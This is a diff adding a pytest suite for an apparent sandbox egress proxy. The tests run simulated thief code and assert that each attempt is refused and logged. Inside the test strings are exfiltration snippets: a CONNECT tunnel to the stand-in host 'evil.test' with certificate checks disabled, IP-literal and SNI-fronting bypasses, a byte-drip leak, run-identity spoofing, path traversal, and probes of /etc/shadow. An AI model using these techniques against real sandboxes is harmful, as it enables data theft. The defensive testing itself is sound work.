@@ -1,0 +1,141 @@
+"""What a thief inside a run tries, in a real sandbox behind a real proxy: each fails, each leaves exactly one line."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.egress.outside import Sink, certificate
+from tests.egress.world import entry, lab_text
+from tests.runs.world import WREN, RunsWorld
+from weighthouse.core.clock import ManualClock
+from weighthouse.core.database import Database
+from weighthouse.runs import api as runs
+
+TUNNEL = """
+import socket, ssl, sys, time
+
+def tunnel(authority):
+    s = socket.socket(socket.AF_UNIX); s.settimeout(20); s.connect('/egress/socket')
+    s.sendall(f'CONNECT {authority} HTTP/1.1\\r\\nHost: {authority}\\r\\n\\r\\n'.encode())
+    answer = b''
+    while b'\\r\\n\\r\\n' not in answer:
+        more = s.recv(4096)
+        if not more: break
+        answer += more
+    return s, int(answer.split()[1])
+
+def greet(s, name):
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    return context.wrap_socket(s, server_hostname=name)
+"""
+
+
+@pytest.fixture
+def hub(tmp_path: Path) -> Iterator[Sink]:
+    sink = Sink(certificate(tmp_path))
+    yield sink
+    sink.close()
+
+
+@pytest.fixture
+def lab(database: Database, clock: ManualClock, tmp_path: Path, short: Path, hub: Sink) -> Iterator[RunsWorld]:
+    """A world whose profile `out` lists the hub, with 64 KiB a day."""
+    made = RunsWorld(database, clock, tmp_path, short, lab_text([entry("hub.test", hub.port)])).start()
+    made.grant("ada", "wren-train", WREN)
+    yield made
+    made.close()
+
+
+def test_an_unknown_host_is_refused_by_the_proxy(lab: RunsWorld) -> None:
+    run = lab.until(lab.submit(TUNNEL + "print(tunnel('evil.test:443')[1])", profile="out"))
+    assert lab.output(run, "out") == ["403"] and run.state == "succeeded"
+    assert [(f["code"], f["host"], f["run"]) for f in lab.facts("egress.Refused")] == [
+        ("egress.unknown_host", "evil.test", run.id)
+    ]
+
+
+def test_an_address_is_refused_in_every_notation(lab: RunsWorld, hub: Sink) -> None:
+    places = [f"127.0.0.1:{hub.port}", f"2130706433:{hub.port}", f"[::ffff:127.0.0.1]:{hub.port}"]
+    run = lab.until(lab.submit(TUNNEL + f"for p in {places!r}: print(tunnel(p)[1])", profile="out"))
+    assert lab.output(run, "out") == ["403"] * 3
+    assert [f["code"] for f in lab.facts("egress.Refused")] == ["egress.ip_literal"] * 3 and hub.connections == 0
+
+
+def test_an_allowed_host_is_no_front_for_another(lab: RunsWorld, hub: Sink) -> None:
+    code = f"""
+s, status = tunnel('hub.test:{hub.port}'); print(status)
+try: greet(s, 'evil.test').sendall(b'weights'); print('SENT')
+except OSError: print('refused')
+"""
+    run = lab.until(lab.submit(TUNNEL + code, profile="out"))
+    assert lab.output(run, "out") == ["200", "refused"], lab.output(run)
+    assert [f["code"] for f in lab.facts("egress.Refused")] == ["egress.name_differs"] and hub.received == 0
+
+
+def test_a_drip_to_an_allowed_host_is_cut_and_the_run_ends(lab: RunsWorld, hub: Sink) -> None:
+    code = f"""
+s, status = tunnel('hub.test:{hub.port}')
+t = greet(s, 'hub.test')
+while True: t.sendall(b'w' * 512); time.sleep(0.01)
+"""
+    run = lab.until(lab.submit(TUNNEL + code, profile="out"))
+    assert (run.state, run.reason) == ("failed", "egress.budget_spent"), lab.output(run)
+    assert 0 < hub.received <= 32 * 1024
+    assert [f["run"] for f in lab.facts("egress.BudgetSpent")] == [run.id]
+    assert [f["code"] for f in lab.facts("runs.RunFailed")] == ["egress.budget_spent"]
+
+
+def test_a_run_cannot_speak_as_another_nor_reach_more_than_its_own_endpoints(lab: RunsWorld) -> None:
+    lab.grant("eve", "wren-train", WREN)
+    victim = lab.submit("import time; time.sleep(60)", person="eve")
+    while lab.get(victim, "eve").state != "running":
+        lab.follow()
+    code = f"""
+import json, socket
+def ask(method, path, body='{{}}', **headers):
+    s = socket.socket(socket.AF_UNIX); s.settimeout(20); s.connect('/egress/socket')
+    extra = ''.join(f'{{k}}: {{v}}\\r\\n' for k, v in headers.items())
+    s.sendall((f'{{method}} {{path}} HTTP/1.1\\r\\nHost: control.weighthouse\\r\\nContent-Type: application/json\\r\\n'
+               f'Content-Length: {{len(body)}}\\r\\nConnection: close\\r\\n{{extra}}\\r\\n{{body}}').encode())
+    answer = b''
+    while more := s.recv(65536): answer += more
+    top, _, rest = answer.partition(b'\\r\\n\\r\\n')
+    return int(top.split()[1]), rest
+status, body = ask('POST', '/workload/v1/token', **{{'X-Weighthouse-Run': '{victim.id}'}})
+print(status, json.loads(body)['run'] == '{victim.id}')
+print(ask('POST', '/workload/v1/progress', **{{'Authorization': 'Workload whw_' + 'a' * 43}})[0])
+for path in ('/api/v1/runs', '/', '/workload/v1/../../api/v1/runs'):
+    print(ask('GET', path, body='')[0])
+"""
+    run = lab.until(lab.submit(code))
+    assert lab.output(run, "out") == ["200 False", "401", "404", "404", "404"], lab.output(run)
+    with lab.unit(lab.person("eve")) as unit:
+        runs.stop(unit, lab.person("eve"), victim.id, "the test is over")
+    lab.until_ended(victim, "eve")
+
+
+def test_a_run_sees_no_other_run_no_server_and_no_key(lab: RunsWorld, tmp_path: Path, short: Path) -> None:
+    places = [str(tmp_path), str(short), str(tmp_path / "keys.sealed"), "/etc/shadow", "/root/.bash_history"]
+    run = lab.until(
+        lab.submit(f"import os\nfor p in {places!r}: print(os.path.exists(p))\nprint(os.listdir('/egress'))")
+    )
+    assert lab.output(run, "out") == ["False"] * 5 + ["['socket']"]
+
+
+def test_output_is_no_way_out_it_is_kept_up_to_a_limit(
+    database: Database, clock: ManualClock, tmp_path: Path, short: Path
+) -> None:
+    world = RunsWorld(database, clock, tmp_path, short, **{"runs.log_bytes": 4096}).start()
+    try:
+        world.grant("ada", "wren-train", WREN)
+        run = world.until(world.submit("for _ in range(5000): print('w' * 100)"))
+        said = world.output(run)
+        assert run.state == "succeeded" and sum(map(len, said)) < 6000
+        assert said[-1] == "output beyond 4096 bytes is not kept"
+    finally:
+        world.close()
